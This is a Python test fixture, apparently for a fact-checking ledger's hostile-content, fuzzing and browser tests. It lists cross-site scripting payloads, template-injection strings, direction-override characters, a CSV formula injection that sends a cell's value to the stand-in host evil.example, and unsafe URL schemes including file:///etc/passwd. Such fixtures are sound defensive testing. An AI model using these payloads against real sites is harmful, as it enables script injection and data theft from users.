"""
What people who dislike a verdict type into the ledger: markup, script, attribute
breakers, scheme tricks, direction overrides, invisible characters, long texts,
scripts other than Latin, and spreadsheet formulas for the CSV export. Shared
by the hostile-content, fuzzing and browser tests. Each runs `alert(` if it
ever escapes its text.
"""

HOSTILE = {
    # A benign twin: the other entries' pages must have its markup, tag for tag.
    "plain": "The budget rose by four percent last year",
    "script": '<script>alert("script")</script> tag',
    "script_end": "</script><script>alert('end')</script> breaks out of JSON-LD",
    "double_quote_attribute": '" onmouseover="alert(1)" data-x="',
    "single_quote_attribute": "' onfocus='alert(2)' autofocus='",
    "img": "<img src=x onerror=alert(3)> an image",
    "svg": "<svg/onload=alert(4)> a drawing",
    "markup": "<!-- --><b>bold</b> <i>and</i> <a href='javascript:alert(5)'>a link</a>",
    "javascript_url": "javascript:alert(document.cookie)",
    "entities": "&lt;script&gt;alert(6)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "template_syntax": "{{ request.user }} {% now 'Y' %} ${alert(7)} {{7*7}}",
    "rtl_override": "\u202egnp.exe\u202c report \u2067isolated\u2069",
    "zero_width": "zero\u200bwidth\u200cnon\u200djoiner\ufeffmark\u2060",
    "emoji": "👩🏽‍💻 checked it 🔥 🙂 🏳️‍🌈",
    "chinese": "國際特赦組織香港辦事處將於年底前關閉",
    # A spreadsheet opening the CSV export would run these (OWASP's CSV injection).
    "formula": '=HYPERLINK("https://evil.example/?c="&A1, "alert(8)") a live link',
    "formula_behind_a_quote": "'=1+1 '+alert(9) @SUM(A1) behind the quote a spreadsheet hides",
    # Text that looks to the ClaimReview reader like a block of a page.
    "ld_json_opener": '<script type="application/ld+json">{"x": "alert(10)"} never closed',
    "long": ("A very long claim <em>with</em> 字 & “quotes” " * 250)[:10_000],
}

# The same trick in a link: every scheme but http and https is refused.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example.org/report.pdf",
]


def fit(value, max_length):
    """The first `max_length` characters, without a trailing space a form would strip."""
    return value[:max_length].strip()
